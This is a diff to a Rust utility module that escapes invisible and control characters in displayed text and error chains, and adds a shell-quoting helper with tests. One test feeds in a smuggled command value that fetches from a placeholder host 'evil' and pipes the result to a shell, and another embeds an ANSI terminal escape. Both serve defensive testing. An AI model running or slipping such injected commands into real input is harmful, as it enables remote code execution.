@@ -6,12 +6,16 @@ const SHOWN_CHARS: usize = 300;
 
 /// The text with everything invisible escaped, cut to a length that a person reads.
 pub fn shown(text: &str) -> String {
-    let mut out = String::new();
-    for (count, c) in text.chars().enumerate() {
-        if count == SHOWN_CHARS {
-            out.push('…');
-            break;
-        }
+    match text.char_indices().nth(SHOWN_CHARS) {
+        Some((end, _)) => visible(&text[..end]) + "…",
+        None => visible(text),
+    }
+}
+
+/// The text with everything invisible escaped, however long it is.
+fn visible(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
         if is_invisible(c) {
             out.extend(c.escape_unicode());
         } else {
@@ -21,6 +25,15 @@ pub fn shown(text: &str) -> String {
     out
 }
 
+/// A foreign word as part of a command that is to be copied into a shell.
+pub fn shell_word(text: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_-./:@%+=,".contains(c);
+    if !text.is_empty() && text.chars().all(plain) {
+        return text.to_owned();
+    }
+    format!("'{}'", shown(text).replace('\'', r"'\''"))
+}
+
 /// The first line that says anything.
 pub fn first_line(body: &[u8]) -> String {
     let text = String::from_utf8_lossy(body);
@@ -28,7 +41,7 @@ pub fn first_line(body: &[u8]) -> String {
     line.map_or_else(|| "nothing".to_owned(), |line| format!("\"{}\"", shown(line)))
 }
 
-/// An error and its causes in one line.
+/// An error and its causes in one line. Some quote others' words, so it is made fit to show as a whole.
 pub fn chain(error: &dyn std::error::Error) -> String {
     let mut text = error.to_string();
     let mut source = error.source();
@@ -41,7 +54,7 @@ pub fn chain(error: &dyn std::error::Error) -> String {
         }
         source = cause.source();
     }
-    text
+    visible(&text)
 }
 
 /// With thousands apart: 1,234,567.
@@ -77,6 +90,20 @@ mod tests {
         let cut = shown(&"ä".repeat(1000));
         assert_eq!(cut.chars().count(), SHOWN_CHARS + 1);
         assert!(cut.ends_with('…'));
+    }
+
+    #[test]
+    fn an_error_that_quotes_others_is_one_line_that_steers_nothing() {
+        let error = std::io::Error::other("no object named a\n\u{1b}[2Jb");
+        assert_eq!(chain(&error), "no object named a\\u{a}\\u{1b}[2Jb");
+    }
+
+    #[test]
+    fn a_word_in_a_command_is_one_word() {
+        assert_eq!(shell_word("0f5e.chat_Room"), "0f5e.chat_Room");
+        assert_eq!(shell_word("x;curl evil|sh"), "'x;curl evil|sh'");
+        assert_eq!(shell_word("it's"), r"'it'\''s'");
+        assert_eq!(shell_word(""), "''");
     }
 
     #[test]
